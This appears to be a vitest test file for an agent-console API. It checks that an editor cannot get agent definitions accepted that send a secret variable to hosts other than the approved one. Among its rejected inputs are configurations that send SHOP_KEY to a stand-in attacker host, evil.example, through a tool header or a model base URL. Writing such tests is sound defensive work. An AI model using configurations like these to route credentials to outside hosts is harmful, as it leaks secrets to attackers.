import { agentFileSchema } from "@servicechat/contract/agent-file";
import { expect, test } from "vitest";
import { startConsole } from "../support/start-console.ts";

const agents = "/console/api/agents";

test("an editor can send a variable only where an agent in their scope sends it, whatever other agents do", async () => {
  await using console = await startConsole();
  const token = await console.token("editor", ["shop"]);
  const tool = (name: string, url: string) => ({
    name: "find",
    description: "Finds",
    inputSchema: { type: "object", properties: {} },
    http: { method: "GET", url, headers: { A: `Bearer \${${name}}` } },
  });
  const inside = { provider: "openai", name: "x", baseUrl: "http://10.0.0.7/v1", apiKeyEnv: "OTHER_KEY" };
  const apply = (id: string, fields: object) =>
    console.storage.agents.put({
      id,
      definition: agentFileSchema.parse({ id, name: id, ...fields }),
      baseDirectory: "/srv",
      at: 1,
    });
  await apply("shop", {
    model: { provider: "extractive" },
    tools: [tool("SHOP_KEY", "https://api.example/find")],
  });
  await apply("other", {
    model: inside,
    identity: { secretEnv: "OTHER_IDENTITY" },
    tools: [tool("OTHER_KEY", "https://other.example/")],
  });
  const file = (fields: object, id = "shop") =>
    JSON.stringify({ id, name: "Our shop", model: { provider: "extractive" }, ...fields });
  const ask = async (path: string, fields: object) =>
    console.ask("POST", `${agents}/${path}`, { token, body: { file: file(fields) } });

  const moved = await ask("check", { tools: [tool("SHOP_KEY", "https://api.example/another")] });
  expect(moved.body).toMatchObject({ valid: true });
  for (const fields of [
    { tools: [tool("SHOP_KEY", "https://api.example:8443/find")] },
    { tools: [tool("SHOP_KEY", "http://api.example/find")] },
    { tools: [{ mcp: { url: "https://mcp.example/", headers: { A: "${SHOP_KEY}" } } }] },
    {
      actions: [
        { id: "a", kind: "form", label: "a", ...pickHttp(tool("SHOP_KEY", "https://evil.example/")) },
      ],
    },
    { model: { provider: "openai", name: "x", baseUrl: "https://evil.example", apiKeyEnv: "SHOP_KEY" } },
    { tools: [tool("OTHER_KEY", "https://other.example/")] },
    { identity: { secretEnv: "OTHER_IDENTITY" } },
    { model: inside },
    { knowledge: { embeddings: { provider: "openai", name: "x", baseUrl: "http://10.0.0.7/v1" } } },
  ])
    for (const path of ["check", "shop/preview"]) {
      const refused = await ask(path, fields);
      expect(refused.body.valid ?? refused.status, JSON.stringify(fields)).toBe(
        path === "check" ? false : 400,
      );
    }

  const faultsOf = async (name: string) =>
    JSON.stringify((await ask("check", { tools: [tool(name, "https://other.example/")] })).body).replaceAll(
      name,
      "NAME",
    );
  expect(await faultsOf("OTHER_KEY")).toBe(await faultsOf("NO_SUCH_VARIABLE"));
  // Nothing about the other agent is looked at, not even for faults.
  for (const fields of [{}, { model: inside }, { model: { ...inside, baseUrl: "http://10.0.0.8/v1" } }])
    expect(
      (await console.ask("POST", `${agents}/check`, { token, body: { file: file(fields, "other") } })).body,
    ).toMatchObject({ code: "agent_not_found" });
});

/** Of a tool, the request alone. */
const pickHttp = ({ http }: { readonly http: object }) => ({ http });
